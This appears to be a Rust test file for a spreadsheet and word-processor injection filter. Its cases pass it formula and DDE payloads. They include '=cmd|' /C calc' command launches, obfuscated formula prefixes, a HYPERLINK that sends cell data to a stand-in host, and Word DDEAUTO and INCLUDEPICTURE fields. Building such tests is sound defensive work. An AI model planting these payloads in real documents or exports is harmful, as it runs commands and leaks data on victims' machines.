//! What a spreadsheet or a word processor would run, in every field: it is written, and it is a text.

use super::everywhere::put;

#[test]
fn a_command_of_windows_behind_an_equals_sign() {
    put("=cmd|' /C calc'!A0");
}

#[test]
fn a_plus_a_minus_and_an_at_sign() {
    put("+33+cmd|x!A1");
    put("-2+3+cmd|x!A1");
    put("@SUM(1+9)*cmd|x!A0");
}

#[test]
fn a_formula_behind_spaces_and_quotation_marks() {
    put("  =HYPERLINK(1)");
    put("\"=1+1\"");
}

#[test]
fn a_formula_behind_a_tab_or_a_line_break() {
    put("\t=1+1");
    put("a\r\n=1+1");
}

#[test]
fn a_formula_in_wide_letters() {
    put("＝1+1");
}

#[test]
fn a_formula_behind_the_semicolon_that_a_french_spreadsheet_cuts_at() {
    put("CCAS;=WEBSERVICE(1);+1|x");
}

#[test]
fn a_call_to_a_web_page_with_the_data_of_the_sheet() {
    put("=HYPERLINK(\"http://exemple.invalid/?\"&A1;\"Cliquez\")");
}

#[test]
fn a_field_of_word() {
    put("{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" }");
    put("{ INCLUDEPICTURE \"http://exemple.invalid/a.png\" }");
}
